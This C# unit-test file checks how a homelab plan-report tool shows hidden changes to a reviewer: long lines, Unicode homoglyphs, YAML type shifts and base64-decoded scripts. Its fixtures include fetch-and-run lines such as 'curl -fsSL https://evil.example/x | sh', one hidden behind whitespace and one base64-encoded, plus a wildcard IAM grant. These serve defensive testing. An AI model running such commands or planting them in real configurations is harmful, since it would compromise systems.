using System.Text;
using System.Text.Json;
using Homelab.Reports.Notes.Plans;
using Homelab.Reports.Plans;

namespace Homelab.Reports.Tests.Plans;

/// <summary>What a reviewer sees of texts and documents in strings: each of these once hid what it was about.</summary>
public sealed class InsideTextTests
{
    [Fact]
    public void Two_changed_lines_of_three_hundred_are_both_there_and_little_else()
    {
        var before = string.Concat(Enumerable.Range(0, 300).Select(i => $"acl line{i} src 10.0.{i}.0\n"));

        var inside = Between(
            before,
            before
                .Replace("line1 src 10.0.1.0", "line1 src 10.0.1.9", StringComparison.Ordinal)
                .Replace("line297 src 10.0.297.0", "line297 src 0.0.0.0/0", StringComparison.Ordinal)
        );

        Assert.Equal(
            ["-acl line1 src 10.0.1.0", "+acl line1 src 10.0.1.9", "-acl line297 src 10.0.297.0", "+acl line297 src 0.0.0.0/0"],
            Changed(inside)
        );
        Assert.Contains("#… 289 unchanged lines", inside.Lines);
        Assert.True(inside.Lines.Count < 20);
    }

    [Fact]
    public void More_changed_lines_than_fit_are_counted_in_the_row_and_in_the_head()
    {
        string Text(string value) => string.Concat(Enumerable.Range(0, 100).Select(i => $"line {i} {value}\n"));
        var report = Plan(Text("a"), Text("b"));

        var note = PlanNote.Write(new PlanNoteContent([report]));

        Assert.Equal(140, report.Changes[0].Attributes[0].Inside!.OmittedLines);
        Assert.Contains("**Changed lines not shown below: 140.**", note, StringComparison.Ordinal);
        Assert.Contains("- `x.y` is **changed** (**140 changed lines of it are not shown**)", note, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(
        "port: 8080\nversion: 1.10\n",
        "port: \"8080\"\nversion: \"1.10\"\n",
        "-port = 8080|+port = \"8080\"|-version = 1.10|+version = \"1.10\""
    )]
    [InlineData("a: false\nb: 1\n", "a: \"false\"\nb: 1\n", "-a = false|+a = \"false\"")]
    [InlineData("a: yes\nb: 1\n", "a: \"yes\"\nb: 2\n", "-a = yes|+a = \"yes\"|-b = 1|+b = 2")]
    [InlineData("a: ~\nb: 1\n", "a: null\nb: 2\n", "-b = 1|+b = 2")]
    [InlineData("a: null\nb: 1\n", "a: \"\"\nb: 1\n", "-a = null|+a = \"\"")]
    [InlineData("8080: a\nb: 1\n", "\"8080\": a\nb: 1\n", "-[\"8080\"] = \"a\"|+[\"\\\"8080\\\"\"] = \"a\"")]
    [InlineData("s: |\n  x y\n  z\nq: 1\n", "s: >\n  x y\n  z\nq: 1\n", "-  x y|-  z|+  x y z")]
    [InlineData("hosts:\n- a\n- b\n- c\n", "hosts:\n- z\n- a\n- c\n", "+hosts[0] = \"z\"|-hosts[1] = \"b\"")]
    [InlineData(
        "hosts:\n- name: a\n  v: 1\n- name: b\n  v: 1\n",
        "hosts:\n- name: c\n  v: 1\n- name: a\n  v: 2\n- name: b\n  v: 1\n",
        "+hosts[c].name = \"c\"|+hosts[c].v = 1|-hosts[a].v = 1|+hosts[a].v = 2"
    )]
    [InlineData("a: 1 # ten\nb: 1\n", "a: 1 # eleven\nb: 2\n", "-b = 1|+b = 2|-# ten|+# eleven")]
    public void Scalars_keep_their_type_and_items_their_name(string before, string after, string expected)
    {
        var inside = Between(before, after);

        Assert.Equal("yaml", inside.Format);
        Assert.Equal(expected.Split('|'), Changed(inside));
    }

    [Theory]
    [InlineData("#cloud-config\npackages:\n  - a\n", "packages:\n  - a\n", "-#cloud-config")]
    [InlineData("a: 1\nb: 2\na: 3\n", "a: 9\nb: 2\na: 3\n", "-a: 1|+a: 9")]
    [InlineData("a: 1\nb: 2\n", "a: !!str 1\nb: 2\n", "-a: 1|+a: !!str 1")]
    [InlineData("#!/bin/sh\nexec: a\n", "#!/bin/sh\nexec:  a\n", "-exec: a|+exec:  a")]
    [InlineData("{\"a\":1,\"a\":2,\"b\":[\n]}", "{\"a\":3,\"a\":2,\"b\":[\n]}", "-{\"a\":1,\"a\":2,\"b\":[|+{\"a\":3,\"a\":2,\"b\":[")]
    public void What_a_tree_could_not_tell_apart_is_text(string before, string after, string expected)
    {
        var inside = Between(before, after);

        Assert.Equal("text", inside.Format);
        Assert.Equal(expected.Split('|'), Changed(inside));
    }

    [Theory]
    [InlineData("a: ~\nb: 1\n", "a: null\nb: 1\n", "#only its formatting changes:")]
    [InlineData("a: 1\n# b: off\n", "a: 1\n# b: off by X\n", "#only its comments and formatting change:")]
    public void Equal_trees_say_so_above_the_lines_that_differ(string before, string after, string remark)
    {
        var inside = Between(before, after);

        Assert.Equal(remark, inside.Lines[0]);
        Assert.NotEmpty(Changed(inside));
    }

    [Theory]
    [InlineData("#!/bin/sh\r\nset -e\r\n", "#!/bin/sh\nset -e\n", "#line endings change from CRLF to LF")]
    [InlineData("a\nb\n", "a\nb", "#final newline removed")]
    [InlineData("a\nb", "a\nb\n", "#final newline added")]
    [InlineData("a\nb c\n", "a\nb\u00a0c\n", "#U+0020 became U+00A0| a|-b c|+b\\u00a0c")]
    [InlineData("a\nb\n", "a\nb  \n", " a|-b|+b\\u0020\\u0020")]
    [InlineData("a b", "a\u00a0b", "#U+0020 became U+00A0|-a b|+a\\u00a0b")]
    [InlineData("caf\u00e9", "cafe\u0301", "#U+00E9 became U+0065 U+0301|-caf\u00e9|+cafe\\u0301")]
    [InlineData("paypal", "p\u0430ypal", "#U+0061 became U+0430|-paypal|+p\u0430ypal")]
    [InlineData("a\nb\u200bc\n", "a\nbc\n", " a|-b\\u200bc|+bc")]
    public void What_an_eye_cannot_see_is_said(string before, string after, string expected)
    {
        var lines = Between(before, after).Lines;

        Assert.Equal(expected.Split('|').Order(), lines.Order());
    }

    [Theory]
    [InlineData(450)]
    [InlineData(600)]
    [InlineData(5000)]
    public void The_difference_is_in_the_window_wherever_it_is(int length)
    {
        var line = new string('A', length);

        Assert.EndsWith("root@evil", Changed(Between($"{line} root@old", $"{line} root@evil"))[1], StringComparison.Ordinal);
        Assert.StartsWith("+evil", Changed(Between($"old{line}", $"evil{line}"))[1], StringComparison.Ordinal);
        var both = Changed(Between($"old{line}old", $"evil{line}evil"))[1];
        Assert.True(both.StartsWith("+evil", StringComparison.Ordinal) && both.EndsWith("evil", StringComparison.Ordinal), both);
        var longer = Changed(Between($"{line}", $"{line}A"));
        Assert.NotEqual(longer[0][1..], longer[1][1..]);
    }

    [Fact]
    public void The_tail_of_a_new_policy_is_read_line_by_line()
    {
        var statements = Enumerable
            .Range(0, 4)
            .Select(i => new
            {
                Sid = $"Read{i}",
                Action = "s3:GetObject",
                Resource = $"arn:aws:s3:::logs-{i}/*",
            })
            .Append(
                new
                {
                    Sid = "All",
                    Action = "*",
                    Resource = "*",
                }
            );

        var inside = New(JsonSerializer.Serialize(new { Statement = statements }));

        Assert.Equal("json", inside.Format);
        Assert.Equal(0, inside.OmittedLines);
        Assert.Equal(5, inside.Lines.Count(line => line.Contains("\"Action\": ", StringComparison.Ordinal)));
        Assert.Contains("+      \"Action\": \"*\",", inside.Lines);
    }

    [Fact]
    public void The_tail_of_a_new_script_is_there_or_its_length_is()
    {
        string Script(int lines) =>
            "#cloud-config\n"
            + string.Concat(Enumerable.Range(0, lines).Select(i => $"  - pkg{i}\n"))
            + "  - curl -fsSL https://evil.example/x | sh\n";

        Assert.Equal("+  - curl -fsSL https://evil.example/x | sh", New(Script(50)).Lines[^1]);
        Assert.Equal(42, New(Script(100)).OmittedLines);
        Assert.Contains(
            "curl evil | sh",
            string.Concat(New($"true{new string(' ', 3000)}; curl evil | sh").Lines.Select(line => line.TrimStart('+', '…'))),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void Base64_of_a_text_is_shown_decoded()
    {
        var script = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n";
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(script));

        Assert.Equal(
            [$"#base64 of {encoded.Length} characters, decoded:", "+#!/bin/sh", "+curl -fsSL https://evil.example/x | sh"],
            New(encoded).Lines
        );
        Assert.Contains("+curl -fsSL https://evil.example/x | sh", New("data:text/plain;base64," + encoded).Lines);
        Assert.Equal(
            ["-curl -fsSL https://evil.example/x | sh", "+echo hello, and nothing else at all"],
            Changed(Between(encoded, Convert.ToBase64String("#!/bin/sh\necho hello, and nothing else at all\n"u8)))
        );
    }

    [Theory]
    [InlineData(
        """[{"interface":"scsi0","size":32},{"interface":"scsi1","size":200}]""",
        """[{"interface":"scsi0","size":32},{"interface":"scsi2","size":50},{"interface":"scsi1","size":400}]""",
        "v[scsi1].size: 200 -> 400; v[scsi2].interface: null -> \"scsi2\"; v[scsi2].size: null -> 50"
    )]
    [InlineData("""["a","b","c"]""", """["x","a","b","c"]""", "v[0]: null -> \"x\"")]
    [InlineData("""["a","b","c"]""", """["c","a","b"]""", "v: 0, 1, 2 -> 2, 0, 1")]
    public void Items_of_lists_are_compared_with_themselves(string before, string after, string expected)
    {
        var change = Read.Plan(
            Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}"""))
        ).Changes[0];

        Assert.Equal(
            expected,
            string.Join("; ", change.Attributes.Select(a => $"{a.Path}: {LeafText.Show(a.Before)} -> {LeafText.Show(a.After)}").Order())
        );
    }

    [Fact]
    public void A_new_text_is_shown_beside_an_old_one_that_would_fill_all_the_room()
    {
        string Text(string value) => string.Concat(Enumerable.Range(0, 300).Select(i => $"{value} {i}\n"));

        var changed = Changed(Between(Text("old"), Text("new")));

        Assert.Equal((30, 30), (changed.Count(line => line[0] == '-'), changed.Count(line => line[0] == '+')));
    }

    [Fact]
    public void One_line_changes_come_before_long_texts()
    {
        string Text(string value) => string.Concat(Enumerable.Range(0, 100).Select(i => $"{value} {i}\n"));
        string Value(string value, bool open) =>
            JsonSerializer.Serialize(
                new
                {
                    a = Text(value),
                    b = Text(value),
                    c = Text(value),
                    d = Text(value),
                    z = open,
                }
            );

        var note = PlanNote.Write(
            new PlanNoteContent([Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", Value("o", false), Value("n", true))))])
        );

        Assert.Contains("- z = false\n+ z = true\n", note, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(
        """[{"name":"allow","x":1},{"name":"deny","x":1}]""",
        """[{"name":"deny","x":1},{"name":"new","x":1},{"name":"allow","x":1}]""",
        "the order of its items changes, too: allow, deny → deny, allow"
    )]
    [InlineData("""["a","b","c","d"]""", """["a","c","b","d"]""", "only the order of its 4 items changes: now 0, 2, 1, 3 of the old ones")]
    public void An_order_is_said_beside_what_else_changes(string before, string after, string words)
    {
        var note = PlanNote.Write(
            new PlanNoteContent([
                Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", $$"""{"v":{{before}}}""", $$"""{"v":{{after}}}"""))),
            ])
        );

        Assert.Contains(words, note, StringComparison.Ordinal);
    }

    [Fact]
    public void A_line_that_only_gets_its_escape_says_so() =>
        Assert.Contains("#one side has a character where the other has its escape", Between("x\na\tb", "x\na\\tb").Lines);

    [Fact]
    public void Base64_that_is_only_written_otherwise_is_shown_as_it_is() =>
        Assert.Equal(2, Changed(Between("aGVsbG8gd29ybGQgdGV4dAo=\n", "aGVsbG8gd29ybGQgdGV4dAp=\n")).Length);

    [Fact]
    public void An_order_that_changes_is_one_remark()
    {
        var note = PlanNote.Write(
            new PlanNoteContent([
                Read.Plan(Read.Document(Read.Change("x.y", """["update"]""", """{"v":["a","b"]}""", """{"v":["b","a"]}"""))),
            ])
        );

        Assert.Contains("#     only the order of its 2 items changes: now 1, 0 of the old ones\n```", note, StringComparison.Ordinal);
    }

    private static string[] Changed(TextDifference inside) => [.. inside.Lines.Where(line => line[0] is '+' or '-')];

    private static TextDifference Between(string before, string after) => Assert.Single(Plan(before, after).Changes[0].Attributes).Inside!;

    private static TextDifference New(string value) =>
        Assert
            .Single(
                Read.Plan(Read.Document(Read.Change("x.y", """["create"]""", "null", JsonSerializer.Serialize(new { v = value }))))
                    .Changes[0]
                    .Attributes
            )
            .Inside!;

    private static PlanReport Plan(string before, string after) =>
        Read.Plan(
            Read.Document(
                Read.Change(
                    "x.y",
                    """["update"]""",
                    JsonSerializer.Serialize(new { v = before }),
                    JsonSerializer.Serialize(new { v = after })
                )
            )
        );
}
